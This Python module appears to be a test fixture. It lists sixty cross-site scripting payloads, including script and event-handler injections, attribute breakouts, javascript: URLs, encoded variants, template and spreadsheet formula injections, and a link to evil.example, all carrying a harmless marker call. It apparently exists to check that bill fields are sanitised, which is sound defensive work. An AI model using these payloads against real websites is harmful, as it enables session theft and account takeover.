"""What a tag, a name or a resource of a bill may hold to run in somebody's browser: sixty ways."""

from __future__ import annotations

import itertools

CALL = "window.ran=1"
_ELEMENTS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}'>",
    f'"><img src=x onerror="{CALL}">',
    f"'><svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg/onload={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src='javascript:parent.{CALL}'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<a href='javascript:{CALL}'>click</a>",
    f"<form action='javascript:{CALL}'><button>go</button></form>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<style>@import 'javascript:{CALL}'</style>",
    f"<link rel=stylesheet href='javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href='javascript:{CALL}//'>",
    f"<marquee onstart={CALL}>",
    f"<div style='animation:x' onanimationstart={CALL}>",
    f"<template><script>{CALL}</script></template>",
)
_ATTRIBUTES = (
    f"' onmouseover='{CALL}",
    f'" onmouseover="{CALL}',
    f'" autofocus onfocus="{CALL}" x="',
    f"` onfocus={CALL} `",
    f'"/><script>{CALL}</script>',
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"\tjavascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"//evil.example/?{CALL}",
)
_SCRIPTS = (
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"');{CALL};//",
    f'");{CALL};//',
    f"*/{CALL}/*",
    f"<!--#exec cmd='{CALL}'-->",
    f"\u2028{CALL}\u2029",
    f"=HYPERLINK(\"javascript:{CALL}\")",
    f"+{CALL}",
    f"-{CALL}",
    f"@{CALL}",
    f"<scr\x0bipt>{CALL}</script>",
)  # fmt: skip
PAYLOADS = tuple(itertools.chain(_ELEMENTS, _ATTRIBUTES, _SCRIPTS))
assert len(set(PAYLOADS)) == 60
